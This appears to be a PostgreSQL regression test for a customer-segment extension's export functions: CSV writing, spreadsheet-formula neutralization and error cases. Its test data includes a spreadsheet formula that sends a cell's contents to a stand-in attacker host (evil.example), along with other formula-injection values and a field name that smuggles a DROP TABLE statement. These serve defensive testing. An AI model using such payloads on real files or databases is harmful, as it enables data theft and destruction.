-- Exporting a segment: export_rows, the spreadsheet shape of export_query,
-- formula neutralization, export_csv writing a server file, and their errors.
SET client_min_messages = warning;
DROP EXTENSION IF EXISTS segments CASCADE;
CREATE EXTENSION segments CASCADE;
RESET client_min_messages;
\set SHOW_CONTEXT never
\pset format unaligned
SET TimeZone = 'UTC';
SET DateStyle = 'ISO, YMD';

-- Values a CSV writer must quote (comma, double quote, newline, carriage
-- return), values a spreadsheet would run as formulas, and non-ASCII names.
INSERT INTO segments.customer (customer_id, email, first_name, last_name, phone, city, region,
                               country, postal_code, created_at) VALUES
    (1, 'ada@example.com', 'Ada', 'Lovelace, "the first"', '+44 20 7946 0000', 'London',
     'England', 'GB', 'NW1 2DB', '2026-01-01 00:00+00'),
    (2, '=HYPERLINK("http://evil.example/?x="&A1)', 'Zoë', 'Ångström', '-1', E'Tromsø\nNorth',
     E'\tTab', '@SUM(1+1)', E'\r9000', '2026-01-01 00:00+00'),
    (3, 'chen@example.com', '陈', '伟', NULL, '', NULL, 'CN', NULL, '2026-01-01 00:00+00'),
    (4, 'dana@example.com', 'Dana', 'Scully', NULL, NULL, NULL, 'US', NULL, '2026-01-01 00:00+00');
INSERT INTO segments.item (item_id, name, kind) VALUES (1, 'City pass', 'pass');
INSERT INTO segments.acquisition (customer_id, item_id, acquired_at) VALUES
    (1, 1, '2026-01-10 10:00+00'), (2, 1, '2026-01-10 10:00+00'), (3, 1, '2026-01-10 10:00+00');

-- Field 2 has the name of a fixed column, field 3 a name of 80 bytes (40
-- characters of two bytes), field 4 a formula, field 5 quotes and SQL.
INSERT INTO segments.custom_field (field_id, name, data_type) VALUES
    (1, 'favorite activity', 'text'),
    (2, 'email', 'text'),
    (3, repeat('ä', 40), 'number'),
    (4, '=SUM(A1)', 'text'),
    (5, 'it''s "quoted"; DROP TABLE segments.customer; --', 'text');
INSERT INTO segments.custom_field_value (customer_id, field_id, value) VALUES
    (1, 1, 'Hiking'), (1, 5, 'yes'),
    (2, 1, '=1+1'), (2, 2, 'zoe@example.com'), (2, 3, '4'), (2, 4, '-3'),
    (3, 1, NULL), (3, 2, ''), (3, 5, 'C:\temp\new'),
    (4, 1, 'hiking');

INSERT INTO segments.segment (name, definition) VALUES
    ('Pass holders', '{"match": "all", "conditions": [{"type": "item_purchase", "items": [1]}]}'),
    ('Hikers', '{"match": "all", "conditions": [{"type": "custom_field", "field": "favorite activity", "operator": "equals", "value": "hiking"}]}');
CALL segments.recalculate(1, '2026-02-01 00:00+00');
CALL segments.recalculate(2, '2026-02-01 00:00+00');

-- export_rows: one row per member in customer_id order, as JSON so that
-- every character is visible. NULL answers are left out, but an empty answer
-- stays.
SELECT row_to_json(r) FROM (
    SELECT customer_id, email, first_name, last_name, phone, city, region, country, postal_code,
           custom_fields
    FROM segments.export_rows(1)) AS r;
SELECT count(*) AS rows, count(DISTINCT e.customer_id) AS customers,
       bool_and(e.joined_at = m.joined_at) AS stored_joined_at
FROM segments.export_rows(1) AS e
JOIN segments.segment_member AS m ON m.segment_id = 1 AND m.customer_id = e.customer_id;

-- The same with neutralize_formulas: every text value starting with = + - @,
-- a tab or a carriage return gets a leading single quote, answers included.
SELECT row_to_json(r) FROM (
    SELECT customer_id, email, first_name, last_name, phone, city, region, country, postal_code,
           custom_fields
    FROM segments.export_rows(1, neutralize_formulas => true)) AS r;

-- neutralize_formula on its own: the six characters at the start, and values
-- that only contain them later or after a space.
SELECT to_json(v) AS value, to_json(segments.neutralize_formula(v)) AS neutralized
FROM (VALUES ('=1+1'), ('+1'), ('-1'), ('@SUM(A1)'), (E'\t=1'), (E'\r=1'), ('a=b'), (' =1'),
             ('''=1'), (''), (NULL)) AS t(v);

-- Refining an export with ordinary SQL: pass holders outside the Hikers
-- segment (Hikers are 1 and 4), and pass holders by an answer.
SELECT e.customer_id, e.email
FROM segments.export_rows(1) AS e
WHERE NOT EXISTS (SELECT 1 FROM segments.segment_membership AS m
                  WHERE m.segment_name = 'Hikers' AND m.customer_id = e.customer_id);
SELECT e.customer_id, e.email
FROM segments.export_rows(1) AS e
WHERE e.custom_fields ->> 'favorite activity' ILIKE 'hiking';

-- export_rows is inlined into the calling query (no Function Scan), so rows
-- stream, and the segment check is a one-time filter, evaluated once.
CREATE FUNCTION pg_temp.plan_of(query text) RETURNS text LANGUAGE plpgsql AS $$
DECLARE
    line text;
    plan text := '';
BEGIN
    FOR line IN EXECUTE 'EXPLAIN (COSTS OFF) ' || query LOOP
        plan := plan || line || E'\n';
    END LOOP;
    RETURN plan;
END
$$;
SELECT position('Function Scan' IN plan) = 0 AS inlined,
       position('One-Time Filter: segments.check_segment_exists(''1''::bigint)' IN plan) > 0 AS checked_once
FROM pg_temp.plan_of('SELECT * FROM segments.export_rows(1)') AS plan;

-- export_query: one column per custom field in field_id order. "email" and
-- the 80-byte name get " (field N)". The 80-byte name is cut to 26 characters
-- (52 bytes), so that header and suffix fit in 63 bytes.
SELECT segments.export_query(1);
SELECT segments.export_query(1, true);
SELECT * FROM segments.export_query(1) AS q \gset
SELECT r.customer_id, r."favorite activity", r."email (field 2)", r."ääääääääääääääääääääääääää (field 3)",
       r."=SUM(A1)", r."it's ""quoted""; DROP TABLE segments.customer; --"
FROM (:q) AS r;

-- export_csv writes the export_query shape to a file on the server and
-- returns the number of members written. The file is shown with its
-- timestamps replaced and its tabs and carriage returns made visible.
SELECT current_setting('data_directory') || '/segments_export_regress.csv' AS path \gset
CREATE FUNCTION pg_temp.show_file(path text) RETURNS text LANGUAGE sql AS $$
    SELECT replace(replace(
        regexp_replace(pg_read_file(path), '\d{4}-\d\d-\d\d \d\d:\d\d:\d\d(\.\d+)?\+00', '<JOINED_AT>', 'g'),
        E'\t', '<TAB>'), E'\r', '<CR>')
$$;
SELECT segments.export_csv(1, :'path');
SELECT pg_temp.show_file(:'path');
SELECT segments.export_csv(1, :'path', neutralize_formulas => true);
SELECT pg_temp.show_file(:'path');

-- A segment with no members writes only the header.
INSERT INTO segments.segment (name, definition) VALUES
    ('Nobody', '{"match": "all", "conditions": [{"type": "item_purchase", "items": [1], "negate": true}, {"type": "item_purchase", "items": [1]}]}');
CALL segments.recalculate(3, '2026-02-01 00:00+00');
SELECT segments.export_csv(3, :'path');
SELECT pg_temp.show_file(:'path');

-- Errors.
SELECT * FROM segments.export_rows(99);
\echo :LAST_ERROR_SQLSTATE
SELECT count(*) FROM segments.export_rows(NULL);
SELECT segments.export_query(NULL);
\echo :LAST_ERROR_SQLSTATE
SELECT segments.export_csv(99, '/tmp/segment-99.csv');
\echo :LAST_ERROR_SQLSTATE
SELECT segments.export_csv(1, 'segment-1.csv');
\echo :LAST_ERROR_SQLSTATE
SELECT segments.export_csv(1, NULL);
\echo :LAST_ERROR_SQLSTATE
SELECT segments.export_csv(1, '/nonexistent-directory/segment-1.csv');
\echo :LAST_ERROR_SQLSTATE
